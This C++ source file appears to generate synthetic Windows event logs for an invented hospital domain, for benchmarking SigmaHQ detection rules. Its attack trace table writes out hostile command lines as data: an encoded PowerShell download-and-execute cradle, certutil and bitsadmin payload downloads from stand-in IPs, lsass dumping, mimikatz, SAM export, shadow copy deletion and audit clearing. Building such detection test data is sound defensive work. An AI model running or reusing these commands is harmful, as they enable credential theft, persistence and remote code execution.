// Synthetic Winlogbeat events. The shapes follow shared/formats/windows_winlogbeat_raw.ndjson (the
// Security channel) and Winlogbeat's rendering of Sysmon events; the values come from a small
// invented hospital domain (GHTEX) built from the seed. Attack traces name the SigmaHQ rule each
// is meant to trigger, so a benchmark can check that matches really happen.
#include "event_generator.h"

#include <cstdio>
#include <initializer_list>
#include <utility>

namespace vigie::bench {
namespace {

// xoshiro256** seeded by splitmix64: fast, and identical on every platform (the std
// distributions are not, which would make "the same seed" mean different corpora).
class Rng {
 public:
  explicit Rng(std::uint64_t seed) {
    for (auto& s : s_) {
      seed += 0x9e3779b97f4a7c15ULL;
      std::uint64_t z = seed;
      z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
      z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
      s = z ^ (z >> 31);
    }
  }
  std::uint64_t next() {
    const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
    const std::uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = rotl(s_[3], 45);
    return result;
  }
  // Uniform in [0, n); the modulo bias is irrelevant for test data.
  std::size_t below(std::size_t n) { return static_cast<std::size_t>(next() % n); }
  std::size_t range(std::size_t lo, std::size_t hi) { return lo + below(hi - lo + 1); }
  bool chance(double p) { return static_cast<double>(next() >> 11) * 0x1.0p-53 < p; }
  template <typename T>
  const T& pick(const std::vector<T>& v) {
    return v[below(v.size())];
  }

 private:
  static std::uint64_t rotl(std::uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
  std::uint64_t s_[4];
};

// Appends JSON to a string. Keys are literals of this file (never escaped); values are escaped.
class JsonWriter {
 public:
  explicit JsonWriter(std::string& out) : out_(out) {}

  void begin_object() {
    comma();
    out_ += '{';
    push();
  }
  void begin_object(std::string_view key) {
    write_key(key);
    out_ += '{';
    push();
  }
  void end_object() {
    out_ += '}';
    --depth_;
  }
  void string(std::string_view key, std::string_view value) {
    write_key(key);
    out_ += '"';
    escape(value);
    out_ += '"';
  }
  void number(std::string_view key, std::uint64_t value) {
    write_key(key);
    out_ += std::to_string(value);
  }
  void boolean(std::string_view key, bool value) {
    write_key(key);
    out_ += value ? "true" : "false";
  }
  void string_array(std::string_view key, std::initializer_list<std::string_view> values) {
    write_key(key);
    out_ += '[';
    bool first = true;
    for (auto v : values) {
      if (!first) out_ += ',';
      first = false;
      out_ += '"';
      escape(v);
      out_ += '"';
    }
    out_ += ']';
  }

 private:
  static constexpr int kMaxDepth = 8;
  void push() { first_[++depth_] = true; }
  void comma() {
    if (depth_ < 0) return;
    if (!first_[depth_]) out_ += ',';
    first_[depth_] = false;
  }
  void write_key(std::string_view key) {
    comma();
    out_ += '"';
    out_ += key;
    out_ += "\":";
  }
  void escape(std::string_view s) {
    for (char c : s) {
      switch (c) {
        case '"':
          out_ += "\\\"";
          break;
        case '\\':
          out_ += "\\\\";
          break;
        case '\n':
          out_ += "\\n";
          break;
        case '\r':
          out_ += "\\r";
          break;
        case '\t':
          out_ += "\\t";
          break;
        default:
          if (static_cast<unsigned char>(c) < 0x20) {
            char buf[8];
            std::snprintf(buf, sizeof buf, "\\u%04x", static_cast<unsigned>(c));
            out_ += buf;
          } else {
            out_ += c;
          }
      }
    }
  }

  std::string& out_;
  bool first_[kMaxDepth] = {};
  int depth_ = -1;
};

// ---- Time ------------------------------------------------------------------------------------

// Days since 1970-01-01 -> civil date (H. Hinnant's algorithm).
void civil_from_days(std::int64_t z, int& y, unsigned& m, unsigned& d) {
  z += 719468;
  const std::int64_t era = (z >= 0 ? z : z - 146096) / 146097;
  const auto doe = static_cast<unsigned>(z - era * 146097);
  const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
  const unsigned mp = (5 * doy + 2) / 153;
  d = doy - (153 * mp + 2) / 5 + 1;
  m = mp < 10 ? mp + 3 : mp - 9;
  y = static_cast<int>(static_cast<std::int64_t>(yoe) + era * 400 + (m <= 2));
}

// `T` between date and time and a `Z` (ISO 8601), or a space and no zone (Sysmon's UtcTime).
std::string format_time(std::int64_t ms, bool iso) {
  const std::int64_t days = ms / 86400000;
  const std::int64_t in_day = ms % 86400000;
  int y = 0;
  unsigned mo = 0, d = 0;
  civil_from_days(days, y, mo, d);
  char buf[40];
  std::snprintf(buf, sizeof buf,
                iso ? "%04d-%02u-%02uT%02d:%02d:%02d.%03dZ" : "%04d-%02u-%02u %02d:%02d:%02d.%03d",
                y, mo, d, static_cast<int>(in_day / 3600000), static_cast<int>(in_day / 60000 % 60),
                static_cast<int>(in_day / 1000 % 60), static_cast<int>(in_day % 1000));
  return buf;
}

constexpr std::int64_t kStartMs = 1773446400000;  // 2026-03-14T00:00:00Z

// ---- Small formatting helpers ----------------------------------------------------------------

std::string hex(std::uint64_t v) {
  char buf[24];
  std::snprintf(buf, sizeof buf, "0x%llx", static_cast<unsigned long long>(v));
  return buf;
}

std::string hex_digits(Rng& rng, std::size_t n) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string s(n, '0');
  for (auto& c : s) c = kHex[rng.below(16)];
  return s;
}

// "{xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx}"
std::string guid(Rng& rng, bool braces = true) {
  // One draw per statement: the operands of one `+` expression are unsequenced, and the corpus
  // must not depend on the compiler's evaluation order.
  std::string g = braces ? "{" : "";
  g += hex_digits(rng, 8);
  for (std::size_t n : {4, 4, 4, 12}) {
    g += '-';
    g += hex_digits(rng, n);
  }
  if (braces) g += '}';
  return g;
}

std::string upper(std::string s) {
  for (auto& c : s) {
    if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
  }
  return s;
}

std::string lower(std::string s) {
  for (auto& c : s) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
  }
  return s;
}

// Stable pseudo-hash hex of a string (file hashes must be the same for the same image).
std::string digest(std::string_view s, std::uint64_t salt, std::size_t n) {
  std::uint64_t h = 0xcbf29ce484222325ULL ^ salt;
  for (char c : s) h = (h ^ static_cast<unsigned char>(c)) * 0x100000001b3ULL;
  Rng rng(h);
  return upper(hex_digits(rng, n));
}

std::string base64(std::string_view bytes) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    const unsigned v = static_cast<unsigned char>(bytes[i]) << 16 |
                       static_cast<unsigned char>(bytes[i + 1]) << 8 |
                       static_cast<unsigned char>(bytes[i + 2]);
    out += kAlphabet[v >> 18 & 63];
    out += kAlphabet[v >> 12 & 63];
    out += kAlphabet[v >> 6 & 63];
    out += kAlphabet[v & 63];
  }
  if (i < bytes.size()) {
    unsigned v = static_cast<unsigned char>(bytes[i]) << 16;
    if (i + 1 < bytes.size()) v |= static_cast<unsigned char>(bytes[i + 1]) << 8;
    out += kAlphabet[v >> 18 & 63];
    out += kAlphabet[v >> 12 & 63];
    out += i + 1 < bytes.size() ? kAlphabet[v >> 6 & 63] : '=';
    out += '=';
  }
  return out;
}

// PowerShell's -EncodedCommand: base64 of UTF-16LE (the text here is ASCII).
std::string powershell_encoded(std::string_view script) {
  std::string utf16;
  for (char c : script) {
    utf16 += c;
    utf16 += '\0';
  }
  return base64(utf16);
}

// ---- The invented domain ---------------------------------------------------------------------

constexpr std::string_view kDomain = "GHTEX";
constexpr std::string_view kDnsDomain = "ght-exemple.local";
constexpr std::string_view kDomainSid = "S-1-5-21-3457937927-2839227994-823803824";

struct User {
  std::string name;
  std::string sid;
};

enum class Role { kWorkstation, kDomainController, kFileServer, kServer };

struct Host {
  std::string name;           // "PC-URG-0123"
  std::string fqdn;           // "pc-urg-0123.ght-exemple.local"
  std::string computer_name;  // "PC-URG-0123.ght-exemple.local"
  std::string agent_id;
  std::string ephemeral_id;
  std::string ip;
  Role role = Role::kWorkstation;
};

struct World {
  std::vector<User> users;     // people
  std::vector<User> services;  // svc_* accounts
  std::vector<User> admins;    // adm_* accounts
  std::vector<Host> workstations;
  std::vector<Host> dcs;
  std::vector<Host> file_servers;
  std::vector<Host> servers;  // application servers
  std::vector<std::string> documents;
};

Host make_host(Rng& rng, std::string name, std::string ip, Role role) {
  Host h;
  h.fqdn = lower(name) + '.' + std::string(kDnsDomain);
  h.computer_name = name + '.' + std::string(kDnsDomain);
  h.name = std::move(name);
  h.agent_id = guid(rng, false);
  h.ephemeral_id = guid(rng, false);
  h.ip = std::move(ip);
  h.role = role;
  return h;
}

World make_world(Rng& rng) {
  static const std::vector<std::string_view> kLastNames = {
      "martin",    "bernard",  "thomas",   "petit",    "robert",   "richard",   "durand",
      "dubois",    "moreau",   "laurent",  "simon",    "michel",   "lefebvre",  "leroy",
      "roux",      "david",    "bertrand", "morel",    "fournier", "girard",    "bonnet",
      "dupont",    "lambert",  "fontaine", "rousseau", "vincent",  "muller",    "lefevre",
      "faure",     "andre",    "mercier",  "blanc",    "guerin",   "boyer",     "garnier",
      "chevalier", "francois", "legrand",  "gauthier", "garcia",   "perrin",    "robin",
      "clement",   "morin",    "nicolas",  "henry",    "roussel",  "mathieu",   "gautier",
      "masson",    "marchand", "duval",    "denis",    "dumont",   "marie",     "lemaire",
      "noel",      "meyer",    "dufour",   "meunier",  "brun",     "blanchard", "giraud",
      "joly",      "riviere",  "lucas",    "brunet",   "gaillard", "barbier",   "arnaud",
      "martinez",  "gerard",   "roche",    "renard",   "schmitt",  "roy",       "leroux",
      "colin",     "vidal",    "caron"};
  World w;
  std::uint32_t rid = 1100;
  auto sid = [&] { return std::string(kDomainSid) + '-' + std::to_string(rid++); };
  for (std::size_t i = 0; i < 400; ++i) {
    std::string name(1, static_cast<char>('a' + rng.below(26)));
    name += kLastNames[rng.below(kLastNames.size())];
    if (i >= kLastNames.size() * 2) name += std::to_string(rng.range(1, 9));
    w.users.push_back({name, sid()});
  }
  for (std::string_view s : {"svc_sqlpacs", "svc_backup", "svc_dpi", "svc_wsus", "svc_print",
                             "svc_citrix", "svc_scan", "svc_labo"}) {
    w.services.push_back({std::string(s), sid()});
  }
  for (std::size_t i = 0; i < 8; ++i) {
    w.admins.push_back({"adm_" + w.users[i * 7].name, sid()});
  }
  static const std::vector<std::string_view> kDepartments = {"URG",  "RAD",  "CARDIO", "PEDIA",
                                                             "BLOC", "LABO", "PHARMA", "ADM",
                                                             "RH",   "ONCO", "MATER",  "REA"};
  for (std::size_t i = 0; i < 300; ++i) {
    const std::size_t dept = rng.below(kDepartments.size());
    char name[32];
    std::snprintf(name, sizeof name, "PC-%s-%04zu", std::string(kDepartments[dept]).c_str(),
                  rng.range(1, 9999));
    char ip[32];
    std::snprintf(ip, sizeof ip, "10.20.%zu.%zu", dept + 1, rng.range(10, 250));
    w.workstations.push_back(make_host(rng, name, ip, Role::kWorkstation));
  }
  w.dcs.push_back(make_host(rng, "DC01", "10.10.1.10", Role::kDomainController));
  w.dcs.push_back(make_host(rng, "DC02", "10.10.1.11", Role::kDomainController));
  w.file_servers.push_back(make_host(rng, "FS01", "10.10.1.20", Role::kFileServer));
  w.file_servers.push_back(make_host(rng, "FS02", "10.10.1.21", Role::kFileServer));
  std::uint32_t octet = 30;
  for (std::string_view s : {"SRV-PACS01", "SRV-PACS02", "SRV-DPI01", "SRV-DPI02", "SRV-SQL01",
                             "SRV-EXCH01", "SRV-CITRIX01", "SRV-CITRIX02", "SRV-CITRIX03",
                             "SRV-WSUS01", "SRV-PRINT01", "SRV-LABO01", "SRV-BACKUP01"}) {
    w.servers.push_back(
        make_host(rng, std::string(s), "10.10.1." + std::to_string(octet++), Role::kServer));
  }
  for (std::string_view d :
       {"compte_rendu_consultation", "planning_garde_mars", "protocole_sepsis", "inventaire_bloc",
        "commande_pharmacie", "CR_IRM", "note_de_service", "budget_2026", "fiche_poste",
        "releve_heures", "courrier_patient", "procedure_hygiene", "resultats_labo"}) {
    w.documents.emplace_back(d);
  }
  return w;
}

// ---- Processes -------------------------------------------------------------------------------

struct Image {
  std::string_view path;
  std::string_view original;
  std::string_view description;
  std::string_view product;
  std::string_view company;
  std::string_view version;
};

constexpr std::string_view kWinProduct = "Microsoft\xC2\xAE Windows\xC2\xAE Operating System";
constexpr std::string_view kMs = "Microsoft Corporation";
constexpr std::string_view kWinVer = "10.0.19041.3636 (WinBuild.160101.0800)";

enum ImageId : std::size_t {
  kServices,
  kSvchost,
  kExplorer,
  kUserinit,
  kChrome,
  kEdge,
  kWord,
  kExcel,
  kOutlook,
  kAcrobat,
  kCmd,
  kConhost,
  kPowershell,
  kBackgroundTaskHost,
  kRuntimeBroker,
  kDllhost,
  kWmiPrvSE,
  kSearchIndexer,
  kSearchProtocolHost,
  kTaskhostw,
  kJavaw,
  kMsMpEng,
  kLsass,
  kMpCmdRun,
  kSmartscreen,
  kMsiexec,
  kMstsc,
  kWhoami,
  kVssadmin,
  kRundll32,
  kNet,
  kMimikatz,
  kBcdedit,
  kSevenZip,
  kBitsadmin,
  kCertutil,
  kAttrib,
  kAuditpol,
  kReg,
  kSchtasks,
  kImageCount,
};

// Indexed by ImageId.
constexpr Image kImages[kImageCount] = {
    {R"(C:\Windows\System32\services.exe)", "services.exe", "Services and Controller app",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\svchost.exe)", "svchost.exe", "Host Process for Windows Services",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\explorer.exe)", "EXPLORER.EXE", "Windows Explorer", kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\userinit.exe)", "USERINIT.EXE", "Userinit Logon Application",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Program Files\Google\Chrome\Application\chrome.exe)", "chrome.exe", "Google Chrome",
     "Google Chrome", "Google LLC", "122.0.6261.112"},
    {R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)", "msedge.exe",
     "Microsoft Edge", "Microsoft Edge", kMs, "122.0.2365.80"},
    {R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)", "WinWord.exe",
     "Microsoft Word", "Microsoft Office", kMs, "16.0.17328.20162"},
    {R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)", "Excel.exe", "Microsoft Excel",
     "Microsoft Office", kMs, "16.0.17328.20162"},
    {R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "Outlook.exe",
     "Microsoft Outlook", "Microsoft Office", kMs, "16.0.17328.20162"},
    {R"(C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe)", "AcroRd32.exe",
     "Adobe Acrobat Reader", "Adobe Acrobat Reader", "Adobe Systems Incorporated", "23.8.20470.0"},
    {R"(C:\Windows\System32\cmd.exe)", "Cmd.Exe", "Windows Command Processor", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\conhost.exe)", "CONHOST.EXE", "Console Window Host", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "PowerShell.EXE",
     "Windows PowerShell", kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\backgroundTaskHost.exe)", "backgroundTaskHost.exe",
     "Background Task Host", kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\RuntimeBroker.exe)", "RuntimeBroker.exe", "Runtime Broker", kWinProduct,
     kMs, kWinVer},
    {R"(C:\Windows\System32\dllhost.exe)", "dllhost.exe", "COM Surrogate", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\wbem\WmiPrvSE.exe)", "Wmiprvse.exe", "WMI Provider Host", kWinProduct,
     kMs, kWinVer},
    {R"(C:\Windows\System32\SearchIndexer.exe)", "SearchIndexer.exe",
     "Microsoft Windows Search Indexer", kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\SearchProtocolHost.exe)", "SearchProtocolHost.exe",
     "Microsoft Windows Search Protocol Host", kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\taskhostw.exe)", "taskhostw.exe", "Host Process for Windows Tasks",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Program Files\Java\jre1.8.0_381\bin\javaw.exe)", "javaw.exe",
     "Java(TM) Platform SE binary", "Java(TM) Platform SE 8", "Oracle Corporation", "8.0.3810.9"},
    {R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe)",
     "MsMpEng.exe", "Antimalware Service Executable", kWinProduct, kMs, "4.18.24010.12"},
    {R"(C:\Windows\System32\lsass.exe)", "lsass.exe", "Local Security Authority Process",
     kWinProduct, kMs, kWinVer},
    {R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MpCmdRun.exe)",
     "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", kWinProduct, kMs,
     "4.18.24010.12"},
    {R"(C:\Windows\System32\smartscreen.exe)", "smartscreen.exe", "Windows Defender SmartScreen",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\msiexec.exe)", "msiexec.exe", "Windows\xC2\xAE installer", kWinProduct,
     kMs, kWinVer},
    {R"(C:\Windows\System32\mstsc.exe)", "mstsc.exe", "Remote Desktop Connection", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\whoami.exe)", "whoami.exe",
     "whoami - displays logged on user information", kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\vssadmin.exe)", "VSSADMIN.EXE",
     "Command Line Interface for Microsoft\xC2\xAE Volume Shadow Copy Service ", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\rundll32.exe)", "RUNDLL32.EXE", "Windows host process (Rundll32)",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\net.exe)", "net.exe", "Net Command", kWinProduct, kMs, kWinVer},
    {R"(C:\Users\Public\Downloads\mimikatz.exe)", "mimikatz.exe", "mimikatz for Windows",
     "mimikatz", "gentilkiwi (Benjamin DELPY)", "2.2.0.0"},
    {R"(C:\Windows\System32\bcdedit.exe)", "bcdedit.exe", "Boot Configuration Data Editor",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Program Files\7-Zip\7z.exe)", "7z.exe", "7-Zip Console", "7-Zip", "Igor Pavlov",
     "23.01"},
    {R"(C:\Windows\System32\bitsadmin.exe)", "bitsadmin.exe", "BITS administration utility",
     kWinProduct, kMs, kWinVer},
    {R"(C:\Windows\System32\certutil.exe)", "CertUtil.exe", "CertUtil.exe", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\attrib.exe)", "ATTRIB.EXE", "Attribute Utility", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\auditpol.exe)", "AUDITPOL.EXE", "Audit Policy Program", kWinProduct,
     kMs, kWinVer},
    {R"(C:\Windows\System32\reg.exe)", "reg.exe", "Registry Console Tool", kWinProduct, kMs,
     kWinVer},
    {R"(C:\Windows\System32\schtasks.exe)", "schtasks.exe", "Task Scheduler Configuration Tool",
     kWinProduct, kMs, kWinVer},
};

enum class Account { kSystem, kUser, kAdmin };

// One way a process gets started. Templates: {user} user name, {n} number, {guid} GUID,
// {doc} document name, {dc} a domain controller's name.
struct Launch {
  ImageId image;
  std::string_view cmd;
  ImageId parent;
  std::string_view parent_cmd;
  Account account;
  std::string_view integrity;
  std::size_t weight;  // benign launches only
};

const std::vector<Launch>& benign_launches() {
  static const std::vector<Launch> k = {
      {kSvchost, R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)", kServices,
       R"(C:\Windows\system32\services.exe)", Account::kSystem, "System", 3},
      {kSvchost,
       R"(C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts)",
       kServices, R"(C:\Windows\system32\services.exe)", Account::kSystem, "System", 1},
      {kChrome,
       R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=fr --num-raster-threads=2 --renderer-client-id={n} --mojo-platform-channel-handle={n} --field-trial-handle=1884,i,{n},{n},262144 /prefetch:1)",
       kChrome, R"("C:\Program Files\Google\Chrome\Application\chrome.exe")", Account::kUser, "Low",
       8},
      {kEdge,
       R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=fr --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:3)",
       kEdge,
       R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window)",
       Account::kUser, "Medium", 5},
      {kWord,
       R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\{doc}.docx" /o "")",
       kExplorer, R"(C:\Windows\Explorer.EXE)", Account::kUser, "Medium", 3},
      {kExcel,
       R"("C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "\\fs01.ght-exemple.local\Services\{doc}.xlsx")",
       kExplorer, R"(C:\Windows\Explorer.EXE)", Account::kUser, "Medium", 2},
      {kOutlook, R"("C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE")", kExplorer,
       R"(C:\Windows\Explorer.EXE)", Account::kUser, "Medium", 2},
      {kAcrobat,
       R"("C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe" "C:\Users\{user}\Downloads\{doc}.pdf")",
       kChrome, R"("C:\Program Files\Google\Chrome\Application\chrome.exe")", Account::kUser,
       "Medium", 2},
      {kConhost, R"(\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1)", kCmd,
       R"("C:\Windows\system32\cmd.exe")", Account::kUser, "Medium", 3},
      {kBackgroundTaskHost,
       R"("C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider)",
       kSvchost, R"(C:\Windows\system32\svchost.exe -k DcomLaunch -p)", Account::kUser, "Low", 3},
      {kRuntimeBroker, R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)", kSvchost,
       R"(C:\Windows\system32\svchost.exe -k DcomLaunch -p)", Account::kUser, "Medium", 4},
      {kDllhost, R"(C:\Windows\system32\DllHost.exe /Processid:{guid})", kSvchost,
       R"(C:\Windows\system32\svchost.exe -k DcomLaunch -p)", Account::kUser, "Medium", 3},
      {kWmiPrvSE, R"(C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding)", kSvchost,
       R"(C:\Windows\system32\svchost.exe -k DcomLaunch -p)", Account::kSystem, "System", 2},
      {kSearchProtocolHost,
       R"x("C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon")x",
       kSearchIndexer, R"(C:\Windows\system32\SearchIndexer.exe /Embedding)", Account::kSystem,
       "System", 3},
      {kJavaw,
       R"("C:\Program Files\Java\jre1.8.0_381\bin\javaw.exe" -Xmx512m -Ddpi.server=srv-dpi01.ght-exemple.local -jar "C:\Program Files\GHT\ClientDPI\client-dpi.jar")",
       kExplorer, R"(C:\Windows\Explorer.EXE)", Account::kUser, "Medium", 3},
      {kTaskhostw, R"(taskhostw.exe {guid})", kSvchost,
       R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)", Account::kUser, "Medium", 2},
      {kMpCmdRun,
       R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke)",
       kMsMpEng,
       R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe")",
       Account::kSystem, "System", 1},
      {kSmartscreen, R"(C:\Windows\System32\smartscreen.exe -Embedding)", kSvchost,
       R"(C:\Windows\system32\svchost.exe -k DcomLaunch -p)", Account::kUser, "Medium", 1},
      {kPowershell,
       R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -NonInteractive -File "C:\ProgramData\GHT\inventaire.ps1")",
       kSvchost, R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)", Account::kSystem,
       "System", 1},
      {kCmd, R"(C:\Windows\system32\cmd.exe /c "\\ght-exemple.local\NETLOGON\logon.bat")",
       kUserinit, R"(C:\Windows\system32\userinit.exe)", Account::kUser, "Medium", 1},
      {kMsiexec, R"(C:\Windows\system32\msiexec.exe /V)", kServices,
       R"(C:\Windows\system32\services.exe)", Account::kSystem, "System", 1},
      {kMstsc, R"("C:\Windows\system32\mstsc.exe" /v:srv-citrix01.ght-exemple.local)", kExplorer,
       R"(C:\Windows\Explorer.EXE)", Account::kUser, "Medium", 1},
  };
  return k;
}

// Attack traces; the comment names the SigmaHQ rule (file stem) each one targets.
const std::vector<Launch>& attack_launches() {
  static const std::string encoded =
      "powershell.exe -NoP -NonI -W Hidden -enc " +
      powershell_encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')");
  static const std::vector<Launch> k = {
      // proc_creation_win_whoami_* (whoami /all, parent cmd)
      {kWhoami, "whoami /all", kCmd, R"("C:\Windows\system32\cmd.exe")", Account::kUser, "Medium",
       0},
      // proc_creation_win_susp_shadow_copies_deletion, proc_creation_win_vssadmin_*
      {kVssadmin, "vssadmin.exe Delete Shadows /All /Quiet", kCmd,
       R"(C:\Windows\system32\cmd.exe /c vssadmin.exe Delete Shadows /All /Quiet)", Account::kAdmin,
       "High", 0},
      // proc_creation_win_rundll32_process_dump_via_comsvcs
      {kRundll32,
       R"("C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full)",
       kPowershell, R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")",
       Account::kAdmin, "High", 0},
      // proc_creation_win_net_groups_and_accounts_recon
      {kNet, R"(net  group "domain admins" /domain)", kCmd, R"("C:\Windows\system32\cmd.exe")",
       Account::kUser, "Medium", 0},
      // proc_creation_win_hktl_mimikatz_command_line, proc_creation_win_hktl_* (metadata)
      {kMimikatz, R"(mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit)", kCmd,
       R"("C:\Windows\system32\cmd.exe")", Account::kAdmin, "High", 0},
      // proc_creation_win_powershell_base64_*, proc_creation_win_office_* (Word spawning
      // PowerShell)
      {kPowershell, encoded, kWord,
       R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\facture.docm")",
       Account::kUser, "Medium", 0},
      // proc_creation_win_bcdedit_boot_conf_tamper
      {kBcdedit, "bcdedit.exe /set {default} recoveryenabled No", kCmd,
       R"("C:\Windows\system32\cmd.exe")", Account::kAdmin, "High", 0},
      // proc_creation_win_7zip_password_compression, proc_creation_win_7zip_exfil_dmp_files
      {kSevenZip,
       R"("C:\Program Files\7-Zip\7z.exe" a -pInfected2026 C:\Users\Public\sauvegarde.7z C:\Users\Public\lsass.dmp)",
       kCmd, R"("C:\Windows\system32\cmd.exe")", Account::kAdmin, "High", 0},
      // proc_creation_win_bitsadmin_download, proc_creation_win_bitsadmin_download_direct_ip
      {kBitsadmin,
       R"(bitsadmin.exe /transfer maj /download /priority high http://198.51.100.23/maj.exe C:\Users\Public\maj.exe)",
       kCmd, R"("C:\Windows\system32\cmd.exe")", Account::kUser, "Medium", 0},
      // proc_creation_win_certutil_download, proc_creation_win_certutil_download_direct_ip
      {kCertutil,
       R"(certutil.exe -urlcache -split -f http://203.0.113.7/beacon.exe C:\Users\Public\beacon.exe)",
       kCmd, R"("C:\Windows\system32\cmd.exe")", Account::kUser, "Medium", 0},
      // proc_creation_win_attrib_hiding_files
      {kAttrib, R"(attrib.exe +h +s C:\Users\Public\beacon.exe)", kCmd,
       R"("C:\Windows\system32\cmd.exe")", Account::kUser, "Medium", 0},
      // proc_creation_win_auditpol_susp_execution
      {kAuditpol, "auditpol.exe /clear /y", kCmd, R"("C:\Windows\system32\cmd.exe")",
       Account::kAdmin, "High", 0},
      // proc_creation_win_reg_dumping_sensitive_hives
      {kReg, R"(reg.exe save HKLM\SAM C:\Users\Public\sam.save)", kCmd,
       R"("C:\Windows\system32\cmd.exe")", Account::kAdmin, "High", 0},
      // proc_creation_win_schtasks_creation, proc_creation_win_schtasks_susp_pattern
      {kSchtasks,
       R"(schtasks.exe /create /tn "MicrosoftEdgeUpdate" /tr "C:\Users\Public\maj.exe" /sc onlogon /ru SYSTEM /f)",
       kCmd, R"("C:\Windows\system32\cmd.exe")", Account::kAdmin, "High", 0},
  };
  return k;
}

// ---- Event writing ---------------------------------------------------------------------------

constexpr std::string_view kSecurityProvider = "Microsoft-Windows-Security-Auditing";
constexpr std::string_view kSecurityGuid = "{54849625-5478-4994-a5ba-3e3b0328c30d}";
constexpr std::string_view kSysmonProvider = "Microsoft-Windows-Sysmon";
constexpr std::string_view kSysmonGuid = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}";
constexpr std::string_view kSysmonChannel = "Microsoft-Windows-Sysmon/Operational";

struct Envelope {
  const Host* host = nullptr;
  std::string_view code;
  std::string_view action;  // also winlog.task
  std::string_view message;
  bool sysmon = false;
  bool success = true;  // Security: keywords / event.outcome
  std::uint64_t version = 0;
};

class Generator {
 public:
  Generator(const GeneratorOptions& options, std::string& out)
      : options_(options), rng_(options.seed), world_(make_world(rng_)), out_(out) {
    for (const auto& l : benign_launches()) total_weight_ += l.weight;
  }

